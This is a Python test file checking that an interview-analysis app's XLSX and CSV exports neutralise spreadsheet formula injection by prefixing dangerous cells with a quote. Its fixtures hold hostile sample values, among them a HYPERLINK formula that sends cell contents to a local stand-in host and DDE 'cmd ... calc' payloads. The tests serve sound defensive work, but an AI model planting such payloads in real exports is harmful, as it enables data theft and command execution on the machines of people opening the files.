"""Formula injection: exported cells a spreadsheet would run are neutralised, text stays readable."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from models import exports, interviews, scans
from models.auth import LOCAL
from models.cells import csv_bytes, neutralise
from tests.factories import ANALYST, add_fragments, code_fragment

HOSTILE_ROLE = '=HYPERLINK("http://127.0.0.1:8998/?d="&A2,"klik")'
HOSTILE_TITLE = "@SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_DEPARTMENT = "\t=1+1"
HOSTILE_ANSWER = "+31 6 is mijn nummer. -2+3 rekent de spreadsheet uit. Dat moet niet gebeuren hier."


@pytest.fixture
def hostile_scan(db):
    scan_id = scans.create_scan(db, LOCAL, name="Formules", organisation="Gemeente =1+1", kind="gemeente")
    person = scans.add_respondent(db, LOCAL, scan_id, role=HOSTILE_ROLE, department=HOSTILE_DEPARTMENT)
    interview_id = interviews.create_interview(
        db,
        LOCAL,
        scan_id,
        title=HOSTILE_TITLE,
        kind="individueel",
        date="2025-01-01",
        interviewer="\r=2*3",
        participant_ids=[person.id],
    )
    turn = interviews.add_turn(
        db, LOCAL, interview_id, kind="answer", text=HOSTILE_ANSWER, speaker_role="respondent", respondent_id=person.id
    )
    for fragment_id in add_fragments(db, turn, scan_id, interview_id):
        code_fragment(db, fragment_id, "BEW.bewustwording")
    return scan_id


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+31", "'+31"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\tgewoon", "'\tgewoon"),
        ("gewone tekst = prima", "gewone tekst = prima"),
        ("", ""),
        (3, 3),
        (-2.5, -2.5),
    ],
)
def test_cells_neutralise_formula_starts_only(value, expected):
    assert neutralise(value) == expected


def _xlsx_cells(data: bytes) -> list[openpyxl.cell.cell.Cell]:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_cells_xlsx_export_has_no_formula_and_keeps_text(db, hostile_scan):
    data = exports.export_xlsx(db, ANALYST, hostile_scan)
    cells = _xlsx_cells(data)
    assert cells, "the export has cells"
    assert all(cell.data_type != "f" for cell in cells)
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert all(not text.lstrip("\t\r ").startswith(("=", "+", "-", "@")) for text in texts)
    assert "'" + HOSTILE_ROLE in texts
    assert "'" + HOSTILE_TITLE in texts
    assert "'" + HOSTILE_DEPARTMENT.strip() in texts  # stored stripped
    assert any(text.startswith("'+31 6 is mijn nummer.") for text in texts)


def test_cells_csv_export_has_no_formula_line(db, hostile_scan):
    data = exports.export_csv(db, ANALYST, hostile_scan)
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert len(rows) > 1
    cells = [cell for row in rows for cell in row]
    assert all(not cell.lstrip("\t\r ").startswith(("=", "+", "-", "@")) for cell in cells)
    assert "'" + HOSTILE_ROLE in cells
    assert "'" + HOSTILE_TITLE in cells


def test_cells_csv_bytes_for_event_log_and_chart_tables():
    frame = pd.DataFrame({"user": ["=cmd|' /C calc'!A0", "anna"], "count": [-1, 2]})
    rows = list(csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8"))))
    assert rows == [["user", "count"], ["'=cmd|' /C calc'!A0", "-1"], ["anna", "2"]]
